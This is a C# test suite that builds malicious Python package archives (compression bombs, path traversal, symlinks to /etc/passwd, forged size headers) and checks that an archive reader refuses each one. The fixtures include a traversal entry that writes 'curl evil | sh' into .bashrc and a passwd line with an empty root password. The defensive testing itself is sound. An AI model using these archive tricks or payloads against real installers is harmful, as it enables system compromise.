using System.Buffers.Binary;
using System.Formats.Tar;
using System.Text;
using CuratedIndex.Features.Releases;
using CuratedIndex.Tests.Infrastructure;
using Xunit;

namespace CuratedIndex.Tests.Features.Releases;

/// <summary>A hostile corpus built in the test: each archive is refused with its own reason, never thrown.</summary>
public sealed class HostileArchiveTests
{
    private const string Wheel = "evil-1.0-py3-none-any.whl";
    private const string Sdist = "evil-1.0.tar.gz";
    private static readonly ArchiveLimits Defaults = new();

    private static byte[] Text(string s) => Encoding.UTF8.GetBytes(s);

    private static async Task<ArchiveReadResult> ReadAsync(byte[] archive, string filename, ArchiveLimits? limits = null) =>
        await ArchiveReader.ReadAsync(new MemoryStream(archive), filename, limits ?? Defaults);

    private static void AssertRefused(ArchiveReadResult result, ArchiveRefusal refusal, string reasonPart)
    {
        Assert.True(result.IsRefused, "expected a refusal");
        Assert.Equal(refusal, result.Refusal);
        Assert.Contains(reasonPart, result.Reason, StringComparison.Ordinal);
        Assert.Empty(result.Entries);
    }

    [Fact]
    public async Task ZipBomb_HighRatio_IsRefusedForItsRatio()
    {
        // 20 MB of zeros deflate to about 20 KB: 1000:1, over the default 200:1 and under every size limit.
        var bomb = HostileArchives.Zip(("evil/zeros.txt", new byte[20 * 1024 * 1024]));
        Assert.True(bomb.Length < 100_000);

        AssertRefused(await ReadAsync(bomb, Wheel), ArchiveRefusal.CompressionRatio, "entry 'evil/zeros.txt' expands more than 200:1");
    }

    [Fact]
    public async Task TarGzBomb_HighRatio_IsRefusedForItsRatio()
    {
        var bomb = HostileArchives.TarGz(t => HostileArchives.AddFile(t, "evil-1.0/zeros.txt", new byte[20 * 1024 * 1024]));

        AssertRefused(await ReadAsync(bomb, Sdist), ArchiveRefusal.CompressionRatio, "the archive expands more than 200:1");
    }

    [Fact]
    public async Task ZipBomb_ManyEntriesOverTheTotal_IsRefusedForTheTotal()
    {
        var entries = Enumerable.Range(0, 5).Select(i => ($"evil/part{i}.txt", Text(new string((char)('a' + i), 4000)))).ToArray();
        var limits = new ArchiveLimits { MaxTotalBytes = 10_000 };

        AssertRefused(await ReadAsync(HostileArchives.Zip(entries), Wheel, limits), ArchiveRefusal.TotalTooLarge, "more than 10000 bytes");
    }

    [Fact]
    public async Task EntryOverThePerEntryLimit_IsRefused()
    {
        var limits = new ArchiveLimits { MaxEntryBytes = 1000 };
        AssertRefused(await ReadAsync(HostileArchives.Zip(("evil/big.py", new byte[2000])), Wheel, limits), ArchiveRefusal.EntryTooLarge, "entry 'evil/big.py'");

        var tar = HostileArchives.TarGz(t => HostileArchives.AddFile(t, "evil-1.0/big.py", new byte[2000]));
        AssertRefused(await ReadAsync(tar, Sdist, limits), ArchiveRefusal.EntryTooLarge, "entry 'evil-1.0/big.py'");
    }

    [Theory]
    [InlineData("../evil.py")]
    [InlineData("evil/../../evil.py")]
    [InlineData("evil/..")]
    public async Task Zip_TraversalEntry_IsRefused(string name)
    {
        AssertRefused(await ReadAsync(HostileArchives.Zip((name, Text("x"))), Wheel), ArchiveRefusal.PathTraversal, $"entry '{name}' leaves the archive");
    }

    [Fact]
    public async Task TarGz_TraversalEntry_IsRefused()
    {
        var tar = HostileArchives.TarGz(t => HostileArchives.AddFile(t, "evil-1.0/../../.bashrc", "curl evil | sh\n"));

        AssertRefused(await ReadAsync(tar, Sdist), ArchiveRefusal.PathTraversal, "'..' segment");
    }

    [Theory]
    [InlineData("/etc/cron.d/evil", "absolute path")]
    [InlineData("C:/Windows/evil.dll", "absolute path")]
    [InlineData("c:evil.dll", "absolute path")]
    [InlineData("evil\\..\\..\\evil.dll", "backslashes")]
    public async Task Zip_AbsoluteOrWindowsPath_IsRefused(string name, string reason)
    {
        AssertRefused(await ReadAsync(HostileArchives.Zip((name, Text("x"))), Wheel), ArchiveRefusal.AbsolutePath, reason);
    }

    [Fact]
    public async Task TarGz_AbsolutePath_IsRefused()
    {
        var tar = HostileArchives.TarGz(t => HostileArchives.AddFile(t, "/etc/passwd", "root::0:0::/:/bin/sh\n"));

        AssertRefused(await ReadAsync(tar, Sdist), ArchiveRefusal.AbsolutePath, "entry '/etc/passwd' is an absolute path");
    }

    [Fact]
    public async Task Zip_ControlCharacterInName_IsRefused()
    {
        AssertRefused(await ReadAsync(HostileArchives.Zip(("evil/a\u0001b.py", Text("x"))), Wheel), ArchiveRefusal.InvalidPath, "control characters");
    }

    [Fact]
    public async Task TarGz_Symlink_IsRefused()
    {
        var tar = HostileArchives.TarGz(t =>
        {
            HostileArchives.AddFile(t, "evil-1.0/setup.py", "pass\n");
            HostileArchives.Add(t, TarEntryType.SymbolicLink, "evil-1.0/link", "/etc/passwd");
        });

        AssertRefused(await ReadAsync(tar, Sdist), ArchiveRefusal.Symlink, "entry 'evil-1.0/link' is a symbolic link (to '/etc/passwd')");
    }

    [Fact]
    public async Task Zip_UnixSymlink_IsRefused()
    {
        var zip = HostileArchives.Zip([("evil/link", Text("/etc/passwd"), 0xA1FF)]);

        AssertRefused(await ReadAsync(zip, Wheel), ArchiveRefusal.Symlink, "entry 'evil/link' is a symbolic link");
    }

    [Fact]
    public async Task Zip_FileMarkedAsDirectoryInItsMode_IsStillReadAsTheFilePipWouldInstall()
    {
        var zip = HostileArchives.Zip([("evil/hidden.py", Text("import os\n"), 0x41ED)]);

        var result = await ReadAsync(zip, Wheel);

        Assert.False(result.IsRefused, result.Reason);
        Assert.Equal("import os\n", Assert.Single(result.Entries).Text);
    }

    [Fact]
    public async Task TarGz_HardLink_IsRefused()
    {
        var tar = HostileArchives.TarGz(t => HostileArchives.Add(t, TarEntryType.HardLink, "evil-1.0/shadow", "/etc/shadow"));

        AssertRefused(await ReadAsync(tar, Sdist), ArchiveRefusal.HardLink, "entry 'evil-1.0/shadow' is a hard link (to '/etc/shadow')");
    }

    [Theory]
    [InlineData(TarEntryType.CharacterDevice)]
    [InlineData(TarEntryType.BlockDevice)]
    [InlineData(TarEntryType.Fifo)]
    public async Task TarGz_DeviceOrFifo_IsRefused(TarEntryType type)
    {
        var tar = HostileArchives.TarGz(t => HostileArchives.Add(t, type, "evil-1.0/dev"));

        AssertRefused(await ReadAsync(tar, Sdist), ArchiveRefusal.SpecialFile, $"entry 'evil-1.0/dev' is a {type}");
    }

    [Fact]
    public async Task Zip_UnixFifo_IsRefused()
    {
        var zip = HostileArchives.Zip([("evil/pipe", [], 0x11B6)]);

        AssertRefused(await ReadAsync(zip, Wheel), ArchiveRefusal.SpecialFile, "entry 'evil/pipe' is a device, FIFO or socket");
    }

    [Fact]
    public async Task TooManyEntries_IsRefused()
    {
        var limits = new ArchiveLimits { MaxEntries = 10 };
        var entries = Enumerable.Range(0, 11).Select(i => ($"evil/{i}.py", Text("x"))).ToArray();
        AssertRefused(await ReadAsync(HostileArchives.Zip(entries), Wheel, limits), ArchiveRefusal.TooManyEntries, "more than 10 entries");

        var tar = HostileArchives.TarGz(t =>
        {
            foreach (var i in Enumerable.Range(0, 11))
            {
                HostileArchives.AddFile(t, $"evil-1.0/{i}.py", "x");
            }
        });
        AssertRefused(await ReadAsync(tar, Sdist, limits), ArchiveRefusal.TooManyEntries, "more than 10 entries");

        var exactly = HostileArchives.Zip(entries[..10]);
        Assert.False((await ReadAsync(exactly, Wheel, limits)).IsRefused);
    }

    [Fact]
    public async Task DuplicateEntries_AreRefused_AlsoWhenTheyDifferOnlyInCase()
    {
        AssertRefused(await ReadAsync(HostileArchives.Zip(("evil/a.py", Text("good")), ("evil/a.py", Text("evil"))), Wheel), ArchiveRefusal.DuplicateEntry, "entry 'evil/a.py' appears more than once");
        AssertRefused(await ReadAsync(HostileArchives.Zip(("evil/a.py", Text("good")), ("evil/A.py", Text("evil"))), Wheel), ArchiveRefusal.DuplicateEntry, "entry 'evil/A.py'");

        var tar = HostileArchives.TarGz(t =>
        {
            HostileArchives.AddFile(t, "evil-1.0/setup.py", "good");
            HostileArchives.AddFile(t, "evil-1.0/./setup.py", "evil");
        });
        AssertRefused(await ReadAsync(tar, Sdist), ArchiveRefusal.DuplicateEntry, "entry 'evil-1.0/setup.py' appears more than once");
    }

    [Fact]
    public async Task Zip_HeaderUnderstatingTheSize_IsRefusedNotTrusted()
    {
        // The central directory and the local header both claim 10 bytes; 100 KB really come out.
        var zip = HostileArchives.Zip(("evil/big.py", Text(new string('x', 100_000))));
        PatchZipUncompressedSize(zip, 10);

        var result = await ReadAsync(zip, Wheel, new ArchiveLimits { MaxEntryBytes = 50_000 });

        // ZipArchive stops at the declared 10 bytes; the reader's own CRC-32 check shows they are not the content.
        AssertRefused(result, ArchiveRefusal.Corrupt, "entry 'evil/big.py' does not match its header (declared 10 bytes");
    }

    [Fact]
    public async Task Zip_HeaderOverstatingTheSize_IsRefused()
    {
        var zip = HostileArchives.Zip(("evil/small.py", Text("print('hi')\n")));
        PatchZipUncompressedSize(zip, 40_000);

        AssertRefused(await ReadAsync(zip, Wheel), ArchiveRefusal.Corrupt, "declared 40000 bytes");
    }

    [Fact]
    public async Task GzipTrailerUnderstatingTheSize_IsNotTrusted()
    {
        // ISIZE, the last four bytes of a gzip member, claims 100 bytes; the limit counts what decompresses.
        var tar = HostileArchives.TarGz(t => HostileArchives.AddFile(t, "evil-1.0/big.py", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 5000).Select(i => $"{i}\n")))));
        BinaryPrimitives.WriteUInt32LittleEndian(tar.AsSpan(tar.Length - 4), 100);

        var result = await ReadAsync(tar, Sdist, new ArchiveLimits { MaxTotalBytes = 20_000 });

        AssertRefused(result, ArchiveRefusal.TotalTooLarge, "more than 20000 bytes");
    }

    [Fact]
    public async Task TruncatedTarGz_IsRefusedAsCorrupt()
    {
        var real = await File.ReadAllBytesAsync(FakePyPI.FixturePath("sdists", "INITools-0.2.tar.gz"));

        var result = await ReadAsync(real[..(real.Length / 2)], "INITools-0.2.tar.gz");

        AssertRefused(result, ArchiveRefusal.Corrupt, "unreadable archive");
    }

    [Fact]
    public async Task TruncatedTarGz_AtAnyPoint_IsRefusedAsCorrupt()
    {
        var real = await File.ReadAllBytesAsync(FakePyPI.FixturePath("sdists", "INITools-0.1.tar.gz"));
        var notRefusedAsCorrupt = new List<int>();

        // Every 97th cut, and every cut in the last 64 bytes (final deflate block, CRC-32 and size trailer),
        // which GZipStream and TarReader alone take for a complete archive.
        for (var cut = 1; cut < real.Length; cut += cut > real.Length - 64 ? 1 : 97)
        {
            if ((await ReadAsync(real[..cut], "INITools-0.1.tar.gz")).Refusal != ArchiveRefusal.Corrupt)
            {
                notRefusedAsCorrupt.Add(cut);
            }
        }

        Assert.Empty(notRefusedAsCorrupt);
    }

    [Fact]
    public async Task ZipBomb_ManySmallEntries_IsRefusedForTheWholeArchivesRatio()
    {
        // Each entry stays under the 1 MiB floor of the per-entry ratio; together they expand about 1000:1.
        var entries = Enumerable.Range(0, 20).Select(i => ($"evil/zeros{i}.txt", new byte[900 * 1024])).ToArray();

        AssertRefused(await ReadAsync(HostileArchives.Zip(entries), Wheel), ArchiveRefusal.CompressionRatio, "the archive expands more than 200:1");
    }

    [Fact]
    public async Task TruncatedWheel_IsRefusedAsCorrupt()
    {
        var real = await File.ReadAllBytesAsync(FakePyPI.FixturePath("dists", "zipp-3.7.0-py3-none-any.whl"));

        AssertRefused(await ReadAsync(real[..(real.Length - 100)], "zipp-3.7.0-py3-none-any.whl"), ArchiveRefusal.Corrupt, "unreadable archive");
    }

    [Fact]
    public async Task CorruptedWheelData_IsRefusedAsCorrupt()
    {
        // Flip bytes inside zipp.py's deflate data (it starts after its 30+7-byte local header): CRC or inflate fails.
        var bytes = await File.ReadAllBytesAsync(FakePyPI.FixturePath("dists", "zipp-3.7.0-py3-none-any.whl"));
        for (var i = 100; i < 140; i++)
        {
            bytes[i] ^= 0x5A;
        }

        AssertRefused(await ReadAsync(bytes, "zipp-3.7.0-py3-none-any.whl"), ArchiveRefusal.Corrupt, "unreadable archive");
    }

    [Fact]
    public async Task NotAnArchive_IsRefusedAsCorrupt()
    {
        AssertRefused(await ReadAsync(Text("<html>not found</html>"), Wheel), ArchiveRefusal.Corrupt, "unreadable archive");
        AssertRefused(await ReadAsync(Text("<html>not found</html>"), Sdist), ArchiveRefusal.Corrupt, "unreadable archive");
    }

    [Theory]
    [InlineData("evil-1.0.tar.bz2")]
    [InlineData("evil-1.0.egg")]
    [InlineData("evil-1.0.exe")]
    [InlineData("evil-1.0.tar")]
    public async Task UnknownExtension_IsRefused(string filename)
    {
        AssertRefused(await ReadAsync(HostileArchives.Zip(("a.py", Text("x"))), filename), ArchiveRefusal.UnknownExtension, filename);
    }

    /// <summary>Rewrites the uncompressed size in every local header and central directory record.</summary>
    private static void PatchZipUncompressedSize(byte[] zip, uint size)
    {
        for (var i = 0; i + 4 <= zip.Length; i++)
        {
            var signature = BinaryPrimitives.ReadUInt32LittleEndian(zip.AsSpan(i));
            if (signature == 0x04034b50)
            {
                BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(i + 22), size);
            }
            else if (signature == 0x02014b50)
            {
                BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(i + 24), size);
            }
        }
    }
}
